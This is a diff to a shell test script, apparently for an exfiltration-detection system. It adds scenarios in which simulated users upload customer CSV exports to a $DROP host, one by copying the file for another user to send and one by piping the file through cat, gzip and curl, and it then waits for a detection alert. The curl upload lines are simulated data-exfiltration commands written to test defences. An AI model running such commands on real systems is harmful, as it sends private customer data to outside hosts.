@@ -73,3 +73,20 @@ derived() { alerts count --rule derived_exfiltration "$@"; }
 has_derived() { [ "$(derived "$@")" -ge 1 ]; }
 wait_alert() { wait_until 45 has_derived "$@"; }
 upload() { echo "curl -sS -T $1 http://$DROP/upload -o /dev/null"; }
+# handoff: alice copies an export to the shared folder, bob uploads it; sets A and B to
+# their sessions and waits for bob's alert.
+handoff() {
+	in_session 1101 "$T/alice.info" cp "$SRC/customers-part1.csv" "$SHARE/for-bob.csv" ||
+		die "alice workload"
+	in_session 1102 "$T/bob.info" bash -c "$(upload "$SHARE/for-bob.csv")" || die "bob workload"
+	A=$(info_session "$T/alice.info"); B=$(info_session "$T/bob.info")
+	wait_alert --session "$B"
+}
+# pipeline: carol runs cat | gzip | curl on an export; sets C and waits for her alert.
+pipeline() {
+	in_session 1103 "$T/carol.info" bash -c \
+		"cat $SRC/customers-part2.csv | gzip -1 | curl -sS --data-binary @- http://$DROP/upload -o /dev/null" ||
+		die "carol workload"
+	C=$(info_session "$T/carol.info")
+	wait_alert --session "$C"
+}
